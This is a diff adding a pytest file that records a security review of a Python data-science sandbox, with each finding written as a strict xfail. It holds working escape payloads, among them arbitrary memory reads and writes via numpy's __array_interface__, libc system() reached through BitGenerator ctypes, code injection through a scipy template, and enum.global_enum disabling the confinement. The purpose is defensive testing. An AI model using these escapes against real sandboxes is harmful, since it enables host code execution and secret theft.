@@ -1,0 +1,410 @@
+"""Second independent review at level `none`: attacks by an outsider told only the threat model.
+
+Each test performs the real attack in an Engine with the data-science policy and asserts that it failed
+and nothing happened: no process ran (the file it would write does not exist), no secret outside the
+working directory reached the cell, no file was written outside it, host modules and host memory
+unchanged. Attacks that change process-wide state (module globals, pandas options, uarray backends,
+memory) run in a child process (tests/childcell.py) and report what the host sees afterwards.
+
+The findings (full escapes unless said) are strict xfails, not fixed here:
+  N2-1  enum's functional API builds a class outside the class statement: its `__getattr__` is not
+        wrapped against numpy's raw protocols (any address read and written), its `__del__` may be a
+        library callable (a file written outside the working directory after the cell).
+  N2-2  `enum.global_enum(E)` writes E's members into `sys.modules[E.__module__]`, a module the cell
+        names (`Enum(..., module=...)` or `E.__module__ = ...`): the host's json, and the sandbox's own
+        `confine._confinement`, which turns the confinement off (a secret read, a process run).
+  N2-3  numpy's BitGenerator `.ctypes` (and `.cffi`) hand out ctypes objects: the CFUNCTYPE class makes
+        a pointer to libc's `system` by dlsym, a process runs; `c_void_p.from_address` reads any address.
+  N2-4  process-wide library registries keep what a cell put there and run it in the host after the
+        cell: pandas options (`display.float_format`), scipy.fft's global uarray backend.
+  N2-5  (lesser) `typing.dataclass_transform()(library_class)` writes an attribute of a host class.
+  N2-6  a cell's own `__del__`, collected on a kernel thread (exempt from the confinement) while the
+        cell runs, runs unconfined: a secret read into the cell, a process run.
+"""
+from __future__ import annotations
+
+import json
+import math
+import threading
+
+import pytest
+
+from childcell import run_cell_in_child
+
+PAYLOAD = "echo PWNED-BY-REVIEW"
+
+
+def _savetxt_partial(path) -> str:
+    """A library callable that writes PAYLOAD to `path`, whatever extra positional argument it is given
+    (np.savetxt writes the rows before it looks at `footer`)."""
+    return (f"functools.partial(np.savetxt, {str(path)!r}, np.array([{PAYLOAD!r}], dtype=object), "
+            "'%s', ' ', '\\n', '')")
+
+
+# --- N2-1: enum's functional API makes classes the class statement's checks never see ---------------------
+
+ENUM_GETATTR_RAW_MEMORY = """\
+import enum, math, numpy as np
+def hook(self, name):
+    if name == "__array_interface__":
+        return {"shape": (1,), "typestr": "<f8", "data": (id(math.tau) + 16, False), "version": 3}
+    raise AttributeError(name)
+E = enum.Enum("E", {"A": 1, "__getattr__": hook})
+view = np.asarray(E.A)
+view[0] = 3.0
+"""
+
+REPORT_TAU = """\
+def probe_host(report):
+    import math
+    report["tau"] = math.tau
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-1: a __getattr__ given to enum's functional API answers numpy's "
+                                       "__array_interface__ lookup: any address is read and written (math.tau = 3.0)")
+def test_enum_functional_api_getattr_does_not_answer_numpys_raw_protocols():
+    result = run_cell_in_child(ENUM_GETATTR_RAW_MEMORY, probe=REPORT_TAU, hard_exit=True, timeout=60)
+    assert result.get("tau") == math.tau, f"host memory was written: {result}"
+
+
+def test_enum_functional_api_array_interface_key_is_refused(run):
+    r = run("import enum\nE = enum.Enum('E', {'A': 1, '__array_interface__': {'data': (0, False)}})")
+    assert not r.ok and "cannot be defined" in r.error_value, r
+
+
+ENUM_LIBRARY_FINALIZER = """\
+import enum, functools, numpy as np
+w = {writer}
+E = enum.Enum("E", [("A", 1), ("__del__", w)])
+#CELL
+del E, w
+"""
+
+REPORT_FILE_AFTER_GC = """\
+def probe_host(report):
+    import gc, os
+    gc.collect()
+    report["written"] = os.path.exists({path!r})
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-1: enum's functional API takes a library callable as __del__ "
+                                       "(build_class refuses it); the garbage collector runs it after the cell, "
+                                       "unconfined: a file with the cell's text is written outside the workdir")
+def test_enum_functional_api_library_finalizer_does_not_write_after_the_cell(outside):
+    target = outside / "enum-finalizer.sh"
+    result = run_cell_in_child(ENUM_LIBRARY_FINALIZER.format(writer=_savetxt_partial(target)),
+                               probe=REPORT_FILE_AFTER_GC.format(path=str(target)), hard_exit=True, timeout=60)
+    assert result.get("written") is False, result
+    assert not target.exists()
+
+
+# --- N2-2: enum.global_enum writes into any loaded module --------------------------------------------------
+
+GLOBAL_ENUM_ROUTES = {
+    "functional_module_argument": "import enum\nE = enum.Enum('E', {'loads': 1}, module='json')\nenum.global_enum(E)",
+    "module_dunder_written": "import enum\nclass E(enum.Enum):\n    loads = 1\nE.__module__ = 'json'\n"
+                             "enum.global_enum(E)",
+}
+
+REPORT_JSON_LOADS = """\
+def probe_host(report):
+    import json, types
+    report["loads_is_a_function"] = isinstance(json.loads, types.FunctionType)
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-2: enum.global_enum(E) updates sys.modules[E.__module__].__dict__ "
+                                       "with E's members; the cell chooses E.__module__: host json.loads replaced")
+@pytest.mark.parametrize("route", sorted(GLOBAL_ENUM_ROUTES))
+def test_global_enum_does_not_write_host_modules(route):
+    result = run_cell_in_child(GLOBAL_ENUM_ROUTES[route], probe=REPORT_JSON_LOADS, hard_exit=True, timeout=60)
+    assert result.get("loads_is_a_function") is True, result
+
+
+GLOBAL_ENUM_ESCAPE = """\
+import enum, functools
+E = enum.Enum("E", {{"_confinement": 1, "__call__": functools.partial({{}}.get, 0)}},
+              module="sandbox_kernel.confine")
+enum.global_enum(E)
+#CELL
+import pandas as pd
+try:
+    read_secret = "{secret}" in str(pd.read_csv({secret_file!r}).columns[0])
+except Exception:
+    read_secret = False
+from scipy import stats
+EVIL = ("import os\\n"
+        "os.system('id > {marker}')\\n"
+        "def _parse_args(self, *a, **k): return a, 0, 1\\n"
+        "_parse_args_stats = _parse_args_rvs = _parse_args\\n")
+class D(stats.rv_continuous):
+    _parse_arg_template = EVIL
+    def _construct_argparser(self, *args, **kwargs):
+        pass
+    def _pdf(self, x):
+        return 1.0
+try:
+    D(name="d")
+except Exception:
+    pass
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-2: global_enum with module='sandbox_kernel.confine' replaces "
+                                       "_confinement by a member whose __call__ returns None: the confinement is "
+                                       "off, a secret outside the workdir is read and a process runs")
+def test_global_enum_is_not_a_full_escape(tmp_path, outside, host_secret):
+    marker = outside / "pwned-by-global-enum"
+    result = run_cell_in_child(GLOBAL_ENUM_ESCAPE.format(secret=host_secret, secret_file=str(tmp_path / "secret.txt"),
+                                                         marker=marker),
+                               ns=("read_secret",), hard_exit=True, timeout=60)
+    escaped = [what for what, happened in (("a process ran", marker.exists()),
+                                           ("a secret outside the workdir was read", result.get("read_secret")))
+               if happened]
+    assert not escaped, (escaped, result)
+
+
+# --- N2-3: numpy's bit generators hand out ctypes -----------------------------------------------------------
+
+BIT_GENERATORS = {
+    "pcg64": "np.random.PCG64(1)",
+    "mt19937": "np.random.MT19937(1)",
+    "default_rng": "np.random.default_rng(1).bit_generator",
+}
+
+CTYPES_SYSTEM = """\
+import numpy as np
+c = {bit_generator}.ctypes
+F = type(c.next_uint64)
+class D:
+    _handle = 0          # dlsym(RTLD_DEFAULT, ...)
+system = F(("system", D()))
+system(b"id > {marker}")
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-3: BitGenerator.ctypes hands out ctypes objects; their CFUNCTYPE "
+                                       "class makes a pointer to libc's system() by dlsym: a process runs")
+@pytest.mark.parametrize("bit_generator", sorted(BIT_GENERATORS))
+def test_bit_generator_ctypes_is_not_a_full_escape(run, outside, bit_generator):
+    marker = outside / f"pwned-by-ctypes-{bit_generator}"
+    r = run(CTYPES_SYSTEM.format(bit_generator=BIT_GENERATORS[bit_generator], marker=marker))
+    assert not marker.exists(), "a process ran"
+    assert not r.ok, r
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-3: c_void_p.from_address, reached from BitGenerator.ctypes, "
+                                       "reads any address")
+def test_bit_generator_ctypes_does_not_read_memory(run):
+    r = run("import numpy as np\nV = type(np.random.PCG64(1).ctypes.state)\n"
+            "refcount_of_one = V.from_address(id(1)).value\n")
+    assert not r.ok, r
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-3: BitGenerator.cffi hands out cffi objects (an FFI that casts "
+                                       "any address to a function pointer)")
+def test_bit_generator_cffi_is_refused(run):
+    r = run("import numpy as np\nhandle = np.random.PCG64(1).cffi\n")
+    assert not r.ok, r
+
+
+@pytest.mark.parametrize("expr", ["np.ma.array([1]).ctypes", "np.matrix([1]).ctypes", "np.zeros(2).T.ctypes"])
+def test_array_ctypes_is_refused_on_subclasses_and_views(run, expr):
+    r = run(f"import numpy as np\nx = {expr}")
+    assert not r.ok and r.error_name == "AttributeDenied", r
+
+
+# --- N2-4: process-wide library registries run the cell's callables in the host ----------------------------
+
+PANDAS_FLOAT_FORMAT = """\
+import functools, numpy as np, pandas as pd
+pd.set_option("display.float_format", {formatter})
+"""
+
+REPORT_HOST_DATAFRAME_REPR = """\
+def probe_host(report):
+    import os, pandas as pd
+    try:
+        report["host_repr"] = "1.5" in repr(pd.DataFrame({{"a": [1.5]}}))
+    except BaseException as exc:   # LimitExceeded is a BaseException
+        report["host_repr"] = type(exc).__name__
+    report["written"] = os.path.exists({path!r})
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-4: pandas options are process-wide: a library callable the cell "
+                                       "set as display.float_format runs when the host prints a DataFrame and "
+                                       "writes a file of the cell's choosing outside the workdir")
+def test_pandas_float_format_library_callable_does_not_run_in_the_host(outside):
+    target = outside / "float-format.sh"
+    result = run_cell_in_child(PANDAS_FLOAT_FORMAT.format(formatter=_savetxt_partial(target)),
+                               probe=REPORT_HOST_DATAFRAME_REPR.format(path=str(target)), hard_exit=True, timeout=60)
+    assert result.get("written") is False, result
+    assert not target.exists()
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-4 (kernel DoS at level none): a cell function set as "
+                                       "display.float_format outlives the cell; the host's repr of any float "
+                                       "DataFrame then raises LimitExceeded")
+def test_pandas_float_format_cell_function_does_not_outlive_the_cell(outside):
+    result = run_cell_in_child(PANDAS_FLOAT_FORMAT.format(formatter="lambda x: 'CELL'"),
+                               probe=REPORT_HOST_DATAFRAME_REPR.format(path=str(outside / "none")), hard_exit=True,
+                               timeout=60)
+    assert result.get("host_repr") is True, result
+
+
+UARRAY_GLOBAL_BACKEND = """\
+import functools, numpy as np, pandas as pd, scipy.fft
+w = {writer}
+backend = pd.Series(["numpy.scipy.fft", w], index=["__ua_domain__", "__ua_function__"], dtype=object)
+scipy.fft.set_global_backend(backend)
+"""
+
+REPORT_HOST_FFT = """\
+def probe_host(report):
+    import os, numpy as np, scipy.fft
+    try:
+        report["host_fft"] = len(scipy.fft.fft(np.ones(4))) == 4
+    except BaseException as exc:
+        report["host_fft"] = type(exc).__name__
+    report["written"] = os.path.exists({path!r})
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-4: scipy.fft.set_global_backend is process-wide; a pandas Series "
+                                       "answers __ua_function__ from its labels (in C, past the gate) and the host's "
+                                       "next fft runs the cell's library callable unconfined (a file outside the "
+                                       "workdir is created)")
+def test_uarray_global_backend_does_not_run_in_the_host(outside):
+    target = outside / "uarray.sh"
+    result = run_cell_in_child(UARRAY_GLOBAL_BACKEND.format(writer=_savetxt_partial(target)),
+                               probe=REPORT_HOST_FFT.format(path=str(target)), hard_exit=True, timeout=60)
+    assert result.get("written") is False, result
+    assert result.get("host_fft") is True, result
+
+
+def test_numpy_print_and_error_state_stay_in_the_cell(run):
+    import numpy as np
+    r = run("import numpy as np\nnp.set_printoptions(formatter={'float': lambda x: 'CELL'})\n"
+            "def cb(*a):\n    pass\nnp.seterrcall(cb)\nnp.seterr(all='call')\n")
+    assert r.ok, r
+    assert "CELL" not in repr(np.array([1.5]))
+    assert np.geterrcall() is None and np.geterr()["divide"] != "call"
+
+
+# --- N2-5: typing helpers that write their argument -----------------------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-5 (lesser): typing.dataclass_transform()(cls) sets "
+                                       "cls.__dataclass_transform__ on a library class (typing.final is refused)")
+def test_dataclass_transform_does_not_write_library_classes(run):
+    import pandas as pd
+    try:
+        run("import typing, pandas as pd\ntyping.dataclass_transform(field_specifiers=(1,))(pd.DataFrame)")
+        assert "__dataclass_transform__" not in vars(pd.DataFrame), "a host class was written"
+    finally:
+        if "__dataclass_transform__" in vars(pd.DataFrame):
+            del pd.DataFrame.__dataclass_transform__
+
+
+def test_typing_final_does_not_write_library_classes(run):
+    import pandas as pd
+    r = run("import typing, pandas as pd\ntyping.final(pd.DataFrame)")
+    assert not r.ok and r.error_name == "CallDenied", r
+    assert "__final__" not in vars(pd.DataFrame)
+
+
+# --- attempts that failed (kept as regressions) ---------------------------------------------------------------
+
+def test_class_statement_cannot_name_its_module(run):
+    r = run("import enum\nclass E(enum.Enum):\n    __module__ = 'json'\n    dumps = 1\n")
+    assert not r.ok and r.error_name == "NameDenied", r
+    assert not hasattr(json.dumps, "_value_")
+
+
+KERNEL_THREAD_FINALIZER = """\
+import pandas as pd
+from scipy import stats
+EVIL = ("import os\\n"
+        "os.system('id > {marker}')\\n"
+        "def _parse_args(self, *a, **k): return a, 0, 1\\n"
+        "_parse_args_stats = _parse_args_rvs = _parse_args\\n")
+class D(stats.rv_continuous):
+    _parse_arg_template = EVIL
+    def _construct_argparser(self, *args, **kwargs):
+        pass
+    def _pdf(self, x):
+        return 1.0
+got = []
+class X:
+    def __del__(self):
+        try:
+            got.append(str(pd.read_csv({secret_file!r}).columns[0]))
+            D(name="d")
+        except Exception as exc:
+            got.append(type(exc).__name__)
+for i in range(20):
+    x = X()
+    x.me = x
+    del x
+n = 0
+while not got and n < 3 * 10**6:   # the cell runs on while a kernel thread collects the cycles
+    n += 1
+print(got)
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING N2-6: the garbage collector runs a cell's __del__ on whichever thread "
+                                       "collects; on a kernel thread (exempt from the confinement) while the cell "
+                                       "runs, the tick lets it run and nothing confines it: a secret outside the "
+                                       "workdir is read into the cell and a process runs")
+def test_a_cell_finalizer_collected_on_a_kernel_thread_during_the_cell_is_confined(run, tmp_path, outside, host_secret):
+    # Stands in for ipykernel's iopub thread at level none, which allocates (and so collects) while a
+    # cell prints; here a thread of the host collects explicitly, so the race is won every time.
+    import gc
+    marker = outside / "pwned-by-kernel-thread-finalizer"
+    stop = threading.Event()
+
+    def collect():
+        while not stop.is_set():
+            gc.collect()
+            stop.wait(0.001)
+
+    collector = threading.Thread(target=collect, daemon=True)
+    collector.start()
+    try:
+        r = run(KERNEL_THREAD_FINALIZER.format(marker=marker, secret_file=str(tmp_path / "secret.txt")))
+    finally:
+        stop.set()
+        collector.join()
+    escaped = [what for what, happened in (("a process ran", marker.exists()),
+                                           ("a secret outside the workdir was read", r.leaked(host_secret)))
+               if happened]
+    assert not escaped, (escaped, r)
+
+
+JINJA_CALLABLE_READS = {
+    "filters_attr": "env.filters['attr']",
+    "globals_cycler": "env.globals['cycler']",
+    "tests": "env.tests",
+    "policies": "env.policies",
+}
+
+
+@pytest.mark.parametrize("name", sorted(JINJA_CALLABLE_READS))
+def test_jinja_environment_tables_are_opaque(run, name):
+    r = run(f"import pandas as pd\nenv = pd.DataFrame({{'a': [1]}}).style.env\ngot = {JINJA_CALLABLE_READS[name]}\n")
+    assert not r.ok and r.error_name == "AttributeDenied", r
+
+
+def test_enum_and_abc_new_cannot_make_classes(run):
+    for src in ("import abc\nX = abc.ABCMeta.__new__(abc.ABCMeta, 'X', (), {})",
+                "X = type.__new__(type, 'X', (), {})"):
+        r = run(src)
+        assert not r.ok and r.error_name == "AttributeDenied", r
+
+
+def test_series_labels_cannot_be_read_as_dunders_by_the_cell(run):
+    r = run("import pandas as pd\ns = pd.Series([1], index=['__ua_domain__'])\nx = s.__ua_domain__\n")
+    assert not r.ok and r.error_name == "AttributeDenied", r
